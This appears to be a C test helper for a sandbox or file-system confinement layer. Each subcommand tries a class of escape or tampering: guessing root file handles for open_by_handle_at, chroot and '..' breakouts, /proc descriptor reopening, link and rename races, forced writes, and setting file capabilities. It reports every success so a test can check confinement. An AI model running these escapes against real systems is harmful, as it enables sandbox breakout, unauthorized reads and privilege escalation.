/*
 * Attacks on files that a shell cannot try by itself. Each prints one line that begins with GOT for
 * every thing it got, and `done` when it has tried everything.
 *
 *   handle FILE             (outside) prints the handle of a file
 *   open-handle HEX DIR     opens that handle on the file system of DIR, and prints what is in it
 *   open-root DIR PATH      guesses the handle of the root of the file system, and reads PATH there
 *   climb DIR PATH          descriptors, fchdir and chroot to get above DIR; then reads PATH
 *   hold DIR GO PATH        sits in DIR until the file GO is there, then reads PATH from where it
 * is write-ways FILE SPARE   changes the file in every way; SPARE is a name that is free read-ways
 * FILE SPARE    reads it in every way swap A B SECONDS        exchanges two names, again and again
 *   capability FILE         gives the file capabilities, with every call
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

enum { HANDLE_ROOM = 128 };

static void got(const char *what)
{
    printf("GOT %s\n", what);
    fflush(stdout);
}

/* Prints what a descriptor gives; the test looks for its secret in it. */
static void show(int fd, const char *how)
{
    char bytes[256];
    ssize_t n = fd < 0 ? -1 : pread(fd, bytes, sizeof(bytes) - 1, 0);
    if (n > 0) {
        bytes[n] = '\0';
        printf("GOT %s: %s\n", how, bytes);
        fflush(stdout);
    }
}

static int print_handle(char **argv)
{
    union {
        struct file_handle head;
        unsigned char bytes[sizeof(struct file_handle) + HANDLE_ROOM];
    } h = {.head.handle_bytes = HANDLE_ROOM};
    int mount;
    if (name_to_handle_at(AT_FDCWD, argv[0], &h.head, &mount, 0) < 0) {
        perror("name_to_handle_at");
        return 3;
    }
    for (size_t i = 0; i < sizeof(struct file_handle) + h.head.handle_bytes; i++)
        printf("%02x", h.bytes[i]);
    printf("\n");
    return 0;
}

static void try_handle(struct file_handle *handle, const char *dir, const char *path)
{
    static const int ways[] = {O_RDONLY, O_RDONLY | O_DIRECTORY, O_RDWR, O_PATH};
    int mounts[] = {open(dir, O_RDONLY | O_DIRECTORY), open(dir, O_PATH | O_DIRECTORY), AT_FDCWD};
    for (size_t m = 0; m < sizeof(mounts) / sizeof(mounts[0]); m++) {
        for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
            int fd = open_by_handle_at(mounts[m], handle, ways[i]);
            if (fd < 0)
                continue;
            got("a file by its handle");
            show(path ? openat(fd, path, O_RDONLY) : fd, "through a handle");
        }
    }
}

static int open_handle(char **argv)
{
    union {
        struct file_handle head;
        unsigned char bytes[sizeof(struct file_handle) + HANDLE_ROOM];
    } h = {0};
    for (size_t i = 0; i < sizeof(h.bytes) && argv[0][2 * i] && argv[0][2 * i + 1]; i++) {
        unsigned value;
        if (sscanf(argv[0] + 2 * i, "%2x", &value) != 1)
            return 2;
        h.bytes[i] = (unsigned char)value;
    }
    try_handle(&h.head, argv[1], NULL);
    return 0;
}

static int open_root(char **argv)
{
    /* The root of ext is 2, of xfs 64 or 128, of btrfs 256; generation 0 fits any where it is not
     * asked for. */
    static const uint32_t inodes[] = {2, 64, 96, 128, 256, 1};
    for (size_t i = 0; i < sizeof(inodes) / sizeof(inodes[0]); i++) {
        for (int type = 1; type < 3; type++) {
            union {
                struct file_handle head;
                unsigned char bytes[sizeof(struct file_handle) + HANDLE_ROOM];
            } h = {.head.handle_bytes = type == 1 ? 8 : 12, .head.handle_type = type};
            memcpy(h.bytes + sizeof(struct file_handle), &inodes[i], sizeof(inodes[i]));
            try_handle(&h.head, argv[0], argv[1]);
        }
    }
    return 0;
}

static void climb_from(const char *how, const char *path)
{
    for (int i = 0; i < 64; i++) {
        show(open(path, O_RDONLY), how);
        if (chdir("..") < 0)
            break;
    }
}

static int climb(char **argv)
{
    const char *dir = argv[0], *path = argv[1];
    int plain = open(dir, O_RDONLY | O_DIRECTORY), only = open(dir, O_PATH | O_DIRECTORY);
    int root = open("/", O_PATH | O_DIRECTORY);
    if (plain < 0 || only < 0 || root < 0) {
        perror(dir);
        return 3;
    }
    const int fds[] = {plain, only, root};
    for (size_t i = 0; i < sizeof(fds) / sizeof(fds[0]); i++) {
        char up[512] = "";
        for (int depth = 0; depth < 40; depth++) {
            snprintf(up + 3L * depth, sizeof(up) - 3 * (size_t)depth, "../");
            int above = openat(fds[i], up, O_PATH | O_DIRECTORY);
            show(openat(above, path, O_RDONLY), "by .. of a descriptor");
            close(above);
        }
        if (fchdir(fds[i]) == 0)
            climb_from("by fchdir", path);
        snprintf(up, sizeof(up), "/proc/self/fd/%d/..", fds[i]);
        if (chdir(up) == 0)
            climb_from("by a name of a descriptor", path);
    }
    /* A root that lies below where we stand does not hold us. */
    if (fchdir(plain) == 0 && (mkdir("jail", 0755) == 0 || errno == EEXIST) &&
        chroot("jail") == 0) {
        got("chroot");
        if (fchdir(root) == 0)
            climb_from("out of a chroot", path);
    }
    rmdir("jail");
    return 0;
}

static int hold(char **argv)
{
    if (chdir(argv[0]) < 0) {
        perror(argv[0]);
        return 3;
    }
    int fd = open(".", O_PATH | O_DIRECTORY), readable = open(".", O_RDONLY | O_DIRECTORY);
    printf("up\n");
    fflush(stdout);
    for (int i = 0; i < 400 && access(argv[1], F_OK) < 0; i++)
        usleep(20000);
    show(openat(fd, argv[2], O_RDONLY), "from the descriptor");
    show(openat(readable, argv[2], O_RDONLY), "from the readable descriptor");
    show(open(argv[2], O_RDONLY), "from the directory");
    char path[128];
    snprintf(path, sizeof(path), "/proc/self/cwd/%.80s", argv[2]);
    show(open(path, O_RDONLY), "from the name of the directory");
    climb_from("from above", argv[2]);
    if (fchdir(fd) == 0)
        climb_from("from above again", argv[2]);
    return 0;
}

static int into(int fd)
{
    int ok = fd >= 0 && write(fd, "harm\n", 5) == 5;
    if (fd >= 0)
        close(fd);
    return ok;
}

static int reopen(int fd, int flags)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    return open(path, flags);
}

static void write_by_link(const char *file, const char *spare)
{
    char path[64];
    int fd = open(file, O_PATH);
    if (link(file, spare) == 0 && into(open(spare, O_WRONLY | O_TRUNC)))
        got("a hard link");
    unlink(spare);
    if (linkat(fd, "", AT_FDCWD, spare, AT_EMPTY_PATH) == 0 && into(open(spare, O_WRONLY)))
        got("a hard link to a descriptor");
    unlink(spare);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (linkat(AT_FDCWD, path, AT_FDCWD, spare, AT_SYMLINK_FOLLOW) == 0 &&
        into(open(spare, O_WRONLY)))
        got("a hard link to a name of a descriptor");
    unlink(spare);
    if (symlink(file, spare) == 0 && into(open(spare, O_WRONLY)))
        got("a symbolic link");
    unlink(spare);
    close(fd);
}

static void write_by_copy(const char *file)
{
    char source[] = "/tmp/source.XXXXXX";
    int from = mkstemp(source), to = open(file, O_WRONLY | O_APPEND);
    into(dup(from));
    if (to >= 0) {
        off_t start = 0;
        if (sendfile(to, from, &start, 5) > 0)
            got("sendfile");
        loff_t a = 0, b = 0;
        if (copy_file_range(from, &a, to, &b, 5, 0) > 0)
            got("copy_file_range");
        if (ioctl(to, FICLONE, from) == 0)
            got("a clone");
    }
    int reader = open(file, O_RDONLY), flags = 0;
    if (reader >= 0 && ioctl(reader, FS_IOC_GETFLAGS, &flags) == 0) {
        flags |= FS_NODUMP_FL;
        if (ioctl(reader, FS_IOC_SETFLAGS, &flags) == 0)
            got("its flags");
    }
    unlink(source);
    close(from);
}

static void write_by_mode(const char *file)
{
    int fd = open(file, O_PATH), reader = open(file, O_RDONLY);
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (chmod(file, 0777) == 0 || fchmod(reader, 0777) == 0 || chmod(path, 0777) == 0 ||
        fchmodat(AT_FDCWD, file, 0777, 0) == 0 ||
        syscall(452 /* fchmodat2 */, fd, "", 0777, AT_EMPTY_PATH) == 0)
        got("its mode");
    if (chown(file, getuid(), getgid()) == 0 || fchown(reader, getuid(), getgid()) == 0)
        got("its owner");
    struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
    if (utimensat(AT_FDCWD, file, times, 0) == 0 || futimens(reader, times) == 0)
        got("its times");
    if (setxattr(file, "user.harm", "x", 1, 0) == 0 ||
        fsetxattr(reader, "user.harm", "x", 1, 0) == 0)
        got("an attribute");
}

static void write_by_rename(const char *file, const char *spare)
{
    if (rename(file, spare) == 0) {
        if (into(open(spare, O_WRONLY)))
            got("a rename, and back");
        rename(spare, file);
    }
    int fd = open(spare, O_WRONLY | O_CREAT, 0644);
    into(fd);
    if (syscall(SYS_renameat2, AT_FDCWD, spare, AT_FDCWD, file, 2 /* RENAME_EXCHANGE */) == 0)
        got("an exchange of names");
    into(open(spare, O_WRONLY | O_CREAT, 0644));
    if (rename(spare, file) == 0)
        got("a rename over it");
    unlink(spare);
    if (unlink(file) == 0)
        got("a removal");
    if (rmdir(file) == 0)
        got("a removal as a directory");
    fd = open("/proc/self/cwd", O_TMPFILE | O_WRONLY, 0644);
    into(dup(fd));
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (linkat(AT_FDCWD, path, AT_FDCWD, file, AT_SYMLINK_FOLLOW) == 0)
        got("a nameless file that is linked there");
    if (mknod(file, S_IFREG | 0644, 0) == 0 || mkdir(file, 0755) == 0 || symlink("/", file) == 0)
        got("a new file of that name");
}

static int write_ways(char **argv)
{
    const char *file = argv[0], *spare = argv[1];
    static const int ways[] = {O_WRONLY,          O_RDWR,           O_WRONLY | O_APPEND,
                               O_WRONLY | O_SYNC, O_RDWR | O_CREAT, O_RDWR | O_DIRECT};
    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        if (into(open(file, ways[i], 0644)))
            got("a plain write");
        for (int kind = 0; kind < 2; kind++) {
            int fd = open(file, kind ? O_PATH : O_RDONLY);
            if (fd >= 0 && into(reopen(fd, ways[i] & ~O_CREAT)))
                got("a write by a name of a descriptor");
            if (fd >= 0)
                close(fd);
        }
    }
    int fd = open(file, O_RDWR);
    char *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (map != MAP_FAILED) {
        map[0] = 'h';
        got("a mapping");
    }
    fd = open(file, O_RDONLY);
    map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (map != MAP_FAILED && mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0)
        got("a mapping that becomes writable");
    if (fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4) == 0 ||
        ftruncate(fd, 1) == 0 || truncate(file, 1) == 0)
        got("a truncation");
    fd = open(file, O_RDONLY | O_TRUNC);
    struct stat now;
    if (fd >= 0 && fstat(fd, &now) == 0 && now.st_size == 0)
        got("a truncation by opening");
    write_by_copy(file);
    write_by_mode(file);
    write_by_link(file, spare);
    write_by_rename(file, spare);
    return 0;
}

static int read_ways(char **argv)
{
    const char *file = argv[0], *spare = argv[1];
    static const int ways[] = {O_RDONLY, O_RDWR, O_RDONLY | O_NOFOLLOW, O_RDONLY | O_NOATIME};
    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
        show(open(file, ways[i]), "open");
    int path = open(file, O_PATH | O_NOFOLLOW);
    show(reopen(path, O_RDONLY), "a name of a descriptor");
    if (link(file, spare) == 0)
        show(open(spare, O_RDONLY), "a hard link");
    unlink(spare);
    if (linkat(path, "", AT_FDCWD, spare, AT_EMPTY_PATH) == 0)
        show(open(spare, O_RDONLY), "a hard link to a descriptor");
    unlink(spare);
    if (symlink(file, spare) == 0)
        show(open(spare, O_RDONLY), "a symbolic link");
    unlink(spare);
    if (rename(file, spare) == 0) {
        show(open(spare, O_RDONLY), "a rename");
        rename(spare, file);
    }
    close(open(spare, O_WRONLY | O_CREAT, 0644));
    if (syscall(SYS_renameat2, AT_FDCWD, spare, AT_FDCWD, file, 2 /* RENAME_EXCHANGE */) == 0) {
        show(open(spare, O_RDONLY), "an exchange of names");
        syscall(SYS_renameat2, AT_FDCWD, spare, AT_FDCWD, file, 2);
    }
    unlink(spare);
    chmod(file, 0666);
    show(open(file, O_RDONLY), "a mode");
    int reader = open(file, O_RDONLY);
    char *map = reader < 0 ? MAP_FAILED : mmap(NULL, 256, PROT_READ, MAP_PRIVATE, reader, 0);
    struct stat now;
    if (map != MAP_FAILED && fstat(reader, &now) == 0 && now.st_size > 0)
        printf("GOT a mapping: %.*s\n", (int)(now.st_size < 200 ? now.st_size : 200), map);
    return 0;
}

static int swap(char **argv)
{
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long count = 0;
    do {
        count += syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2) == 0;
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < strtol(argv[2], NULL, 10));
    printf("%ld swaps\n", count);
    return 0;
}

static int capability(char **argv)
{
    /* Every capability, permitted and effective: the old form, and the one with a root id. */
    static const uint32_t second[5] = {0x02000001, ~0U, 0, 0x1ff, 0};
    static const uint32_t third[6] = {0x03000001, ~0U, 0, 0x1ff, 0, 1000};
    const char *name = "security.capability", *file = argv[0];
    int fd = open(file, O_RDWR);
    for (int i = 0; i < 2; i++) {
        const void *value = i ? (const void *)third : (const void *)second;
        size_t size = i ? sizeof(third) : sizeof(second);
        struct {
            const void *value;
            uint32_t size, flags;
        } at = {value, (uint32_t)size, 0};
        if (setxattr(file, name, value, size, 0) == 0 ||
            lsetxattr(file, name, value, size, 0) == 0 ||
            fsetxattr(fd, name, value, size, 0) == 0 ||
            syscall(463 /* setxattrat */, AT_FDCWD, file, 0, name, &at, sizeof(at)) == 0)
            got(i ? "capabilities with a root" : "capabilities");
    }
    static const char *const others[] = {"trusted.x", "security.ima", "trusted.overlay.opaque"};
    for (size_t i = 0; i < sizeof(others) / sizeof(others[0]); i++) {
        if (setxattr(file, others[i], "y", 1, 0) == 0)
            got(others[i]);
    }
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int words;
        int (*run)(char **words);
        int quiet; /* what it prints is a value */
    } attacks[] = {
        {"handle", 1, print_handle, 1},
        {"open-handle", 2, open_handle, 0},
        {"open-root", 2, open_root, 0},
        {"climb", 2, climb, 0},
        {"hold", 3, hold, 0},
        {"write-ways", 2, write_ways, 0},
        {"read-ways", 2, read_ways, 0},
        {"swap", 3, swap, 0},
        {"capability", 1, capability, 0},
    };
    for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++) {
        if (strcmp(argv[1], attacks[i].name) != 0 || argc - 2 < attacks[i].words)
            continue;
        int status = attacks[i].run(argv + 2);
        if (status == 0 && !attacks[i].quiet)
            printf("done\n");
        return status;
    }
    fprintf(stderr, "usage: attack_files NAME WORDS...\n");
    return 2;
}
